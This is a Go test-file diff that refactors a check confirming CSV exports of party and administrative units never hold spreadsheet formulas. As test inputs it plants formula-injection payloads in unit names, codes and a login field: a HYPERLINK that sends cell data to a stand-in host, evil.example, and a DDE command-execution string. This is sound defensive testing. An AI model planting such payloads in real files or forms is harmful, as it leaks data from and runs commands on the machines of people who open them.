@@ -13,6 +13,7 @@ import (
 
 	"ptdang/internal/account"
 	"ptdang/internal/org"
+	"ptdang/internal/orgtest"
 	"ptdang/internal/report"
 )
 
@@ -46,28 +47,14 @@ func TestNoCSVExportHoldsAFormula(t *testing.T) {
 	// Formulas planted where anyone with a form can put them: unit names and codes, and a login name
 	// typed on the sign-in page by someone with no account at all.
 	const evilName = `=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")`
-	commune, _, err := org.CreatePartyUnit(ctx, s.DB, all, org.PartyUnitInput{Code: "TU.X03", Name: evilName,
-		Kind: org.CommuneCommittee, OrgType: "territorial", ParentID: f.province, From: day("2015-01-01")})
-	if err != nil {
-		t.Fatal(err)
-	}
-	cell, _, err := org.CreatePartyUnit(ctx, s.DB, all, org.PartyUnitInput{Code: "-B2", Name: "+84 ấp Mới",
-		Kind: org.AffiliatedCell, OrgType: "territorial", ParentID: commune, From: day("2015-01-01"), FullMembers: 3})
-	if err != nil {
-		t.Fatal(err)
-	}
+	tree := orgtest.New(t, s.DB, day("2015-01-01"))
+	cell := tree.Party(org.PartyUnitInput{Code: "TU.X03", Name: evilName, Kind: org.CommuneCommittee, ParentID: f.province}).
+		Cell("-B2", "+84 ấp Mới", 3)
 	adminCommune, err := org.GetAdminUnitByCode(ctx, s.DB, all, "DN.X01", day("2020-01-01"))
 	if err != nil {
 		t.Fatal(err)
 	}
-	hamlet, err := org.CreateAdminUnit(ctx, s.DB, all, org.AdminUnitInput{Code: "-A1", Name: "@SUM(1+1)", Level: org.Hamlet,
-		LocalWord: "ấp", ParentID: adminCommune.ID, From: day("2015-01-01")})
-	if err != nil {
-		t.Fatal(err)
-	}
-	if err := org.SetLink(ctx, s.DB, all, hamlet, cell, org.OwnCell, day("2015-01-01")); err != nil {
-		t.Fatal(err)
-	}
+	tree.Admin(org.AdminUnitInput{Code: "-A1", Name: "@SUM(1+1)", Level: org.Hamlet, LocalWord: "ấp", ParentID: adminCommune.ID}).Link(cell, org.OwnCell)
 	const evilLogin = `=cmd|' /C calc'!A0`
 	if resp, body := send(t, &http.Client{}, "POST", base+"/login", url.Values{"login": {evilLogin}, "password": {"x"}}); resp.StatusCode != http.StatusUnauthorized {
 		t.Fatalf("sign-in: %d\n%s", resp.StatusCode, body)
